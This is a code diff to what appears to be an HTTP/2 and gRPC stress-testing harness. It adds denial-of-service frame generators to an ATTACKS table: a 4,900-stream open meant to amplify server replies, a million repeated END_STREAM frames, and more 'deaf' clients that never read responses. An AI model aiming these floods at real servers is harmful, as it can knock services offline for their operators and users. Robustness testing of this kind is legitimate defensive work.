@@ -87,6 +87,12 @@ def open_reflection():
             for stream in itertools.islice(streams(), 20_000))
 
 
+def refused_streams():
+    """Opens 4,900 streams by nine bytes each. Where their address has no room the server answers them by much more."""
+    yield frame(SETTINGS, ACK, 0)
+    yield from (frame(HEADERS, END_HEADERS, stream, b"") for stream in itertools.islice(streams(), 4900))
+
+
 def refused_messages():
     """100,000 messages that are refused by their first bytes, for being compressed."""
     return (opened(stream) + frame(DATA, 0, stream, b"\1\0\0\0\5") for stream in itertools.islice(streams(), 100_000))
@@ -99,6 +105,12 @@ def further_messages():
     yield from (frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, message(b"")) for stream in watched)
     for _ in range(40):
         yield from (frame(DATA, 0, stream, message(b"x" * 8000)) for stream in watched)
+
+
+def ended_data():
+    """A watch whose request ends a million times."""
+    yield frame(HEADERS, END_HEADERS, 1, request_fields(HEALTH + "Watch")) + frame(DATA, 0, 1, message(b""))
+    yield from repeated(frame(DATA, END_STREAM, 1))
 
 
 def continuation():
@@ -180,11 +192,10 @@ def resets():
 
 
 ATTACKS = {made.__name__: made for made in (
-    reset_streams, reset_requests, made_to_reset, open_streams, open_health_streams, open_reflection, refused_messages,
-    further_messages, continuation, empty_continuation,
-    compressed_headers, many_headers, ping, settings, acknowledgements, empty_data, padding, priority, window, unknown,
-    resets)}
-DEAF = {reset_streams, continuation, ping, settings}  # these read nothing, so that what the server answers piles up
+    reset_streams, reset_requests, made_to_reset, open_streams, open_health_streams, open_reflection, refused_streams,
+    refused_messages, further_messages, ended_data, continuation, empty_continuation, compressed_headers, many_headers,
+    ping, settings, acknowledgements, empty_data, padding, priority, window, unknown, resets)}
+DEAF = {reset_streams, refused_streams, continuation, ping, settings}  # these read nothing, so that what the server answers piles up
 
 
 def pieces(sent):
